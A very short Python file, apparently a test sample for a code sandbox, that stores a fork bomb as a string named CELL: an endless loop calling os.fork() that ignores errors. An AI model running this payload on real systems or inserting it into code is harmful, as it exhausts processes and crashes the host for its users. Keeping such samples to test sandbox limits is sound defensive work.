"""Forks without end."""
CELL = r'''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''
